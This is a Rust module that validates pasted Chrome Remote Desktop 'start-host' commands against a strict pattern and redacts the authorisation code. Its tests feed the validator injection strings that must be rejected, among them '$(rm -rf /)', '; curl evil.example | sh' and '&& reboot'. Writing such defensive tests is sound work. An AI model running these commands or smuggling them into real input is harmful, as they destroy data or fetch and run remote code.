//! Chrome Remote Desktop's `start-host` command: the one pattern both the allocator (checking
//! what a researcher pasted) and the agent (starting the host without a shell) rely on.
//! Always built: the agent uses it.

use std::fmt;
use std::sync::LazyLock;

use regex::Regex;

/// Where the CRD host program lives on the VM images.
pub const START_HOST: &str = "/opt/google/chrome-remote-desktop/start-host";
/// The only redirect URL Chrome Remote Desktop's Debian command uses.
pub const REDIRECT_URL: &str = "https://remotedesktop.google.com/_/oauthredirect";
/// Longest command accepted; genuine ones are about 250 characters.
const MAX_COMMAND_LEN: usize = 2048;

/// The command Chrome Remote Desktop's "Set up via SSH → Debian Linux" page gives, and
/// nothing else: fixed program, an authorisation code of safe characters, the fixed redirect
/// URL, and the VM's name as `$(hostname)` or a plain word. Quotes are optional; any other
/// shell syntax fails to match.
static COMMAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"^(?:DISPLAY=\s+)?/opt/google/chrome-remote-desktop/start-host"#,
        r#"\s+--code=(?:"(?P<qcode>[0-9]/[A-Za-z0-9_\-]{10,1024})"|(?P<code>[0-9]/[A-Za-z0-9_\-]{10,1024}))"#,
        r#"\s+--redirect-url=(?:"https://remotedesktop\.google\.com/_/oauthredirect"|'https://remotedesktop\.google\.com/_/oauthredirect'|https://remotedesktop\.google\.com/_/oauthredirect)"#,
        r#"\s+--name=(?:\$\(hostname\)|"\$\(hostname\)"|[A-Za-z0-9._\-]{1,64})\s*$"#,
    ))
    .expect("the CRD pattern is a valid regex")
});

/// A validated `start-host` command; all that matters of it is the one-time code.
#[derive(Clone, PartialEq, Eq)]
pub struct CrdCommand {
    code: String,
}

/// The authorisation code is a credential: never shown.
impl fmt::Debug for CrdCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("CrdCommand(<redacted>)")
    }
}

/// Text that is not a genuine CRD `start-host` command.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct NotACrdCommand;

impl fmt::Display for NotACrdCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str("not a Chrome Remote Desktop start-host command")
    }
}

impl std::error::Error for NotACrdCommand {}

impl CrdCommand {
    /// Checks `raw` against the genuine command's pattern.
    pub fn parse(raw: &str) -> Result<Self, NotACrdCommand> {
        let command = raw.trim();
        if command.len() > MAX_COMMAND_LEN {
            return Err(NotACrdCommand);
        }
        let captures = COMMAND.captures(command).ok_or(NotACrdCommand)?;
        let code = captures
            .name("qcode")
            .or_else(|| captures.name("code"))
            .ok_or(NotACrdCommand)?;
        Ok(CrdCommand {
            code: code.as_str().to_owned(),
        })
    }

    /// The one-time authorisation code (contains only `[0-9A-Za-z/_-]`).
    pub fn code(&self) -> &str {
        &self.code
    }

    /// The command in one canonical spelling, as stored and sent to the agent.
    pub fn canonical(&self) -> String {
        format!(
            "DISPLAY= {START_HOST} --code=\"{}\" --redirect-url=\"{REDIRECT_URL}\" --name=$(hostname)",
            self.code
        )
    }

    /// The arguments for `start-host` when run directly, without a shell: the code, the
    /// redirect URL and the name the host registers under.
    pub fn start_host_args(&self, display_name: &str) -> Vec<String> {
        vec![
            format!("--code={}", self.code),
            format!("--redirect-url={REDIRECT_URL}"),
            format!("--name={display_name}"),
        ]
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const GENUINE: &str = r#"DISPLAY= /opt/google/chrome-remote-desktop/start-host --code="4/0AVG7fiQ1bCdEfGhIjKlMnOpQrStUvWxYz_0123-abc" --redirect-url="https://remotedesktop.google.com/_/oauthredirect" --name=$(hostname)"#;

    #[test]
    fn the_genuine_command_parses_and_is_made_canonical() {
        let command = CrdCommand::parse(GENUINE).expect("genuine");
        assert_eq!(command.canonical(), GENUINE);
        assert_eq!(
            command.code(),
            "4/0AVG7fiQ1bCdEfGhIjKlMnOpQrStUvWxYz_0123-abc"
        );
        let unquoted = GENUINE.replace("\"4/", "4/").replace("-abc\"", "-abc");
        assert_eq!(CrdCommand::parse(&unquoted).expect("unquoted"), command);
        assert_eq!(
            CrdCommand::parse(&format!("  {GENUINE}\n")).expect("padded"),
            command
        );
        assert!(!format!("{command:?}").contains("0AVG"));
        assert_eq!(
            command.start_host_args("lablink-vm-1"),
            [
                "--code=4/0AVG7fiQ1bCdEfGhIjKlMnOpQrStUvWxYz_0123-abc",
                "--redirect-url=https://remotedesktop.google.com/_/oauthredirect",
                "--name=lablink-vm-1",
            ]
        );
    }

    #[test]
    fn anything_else_is_refused() {
        for bad in [
            "",
            "hello",
            "--code=4/abc",
            &GENUINE.replace("$(hostname)", "$(rm -rf /)"),
            &format!("{GENUINE}; curl evil.example | sh"),
            &format!("{GENUINE} && reboot"),
            &GENUINE.replace("start-host", "start-host`id`"),
            &GENUINE.replace("4/0AVG", "4/0AVG;id;"),
            &GENUINE.replace("remotedesktop.google.com", "evil.example"),
            &GENUINE.replace("--code=\"4/", "--code=\"4/$(id)"),
            &format!("{GENUINE}\nreboot"),
            &"x".repeat(5000),
        ] {
            assert!(CrdCommand::parse(bad).is_err(), "accepted: {bad}");
        }
    }
}
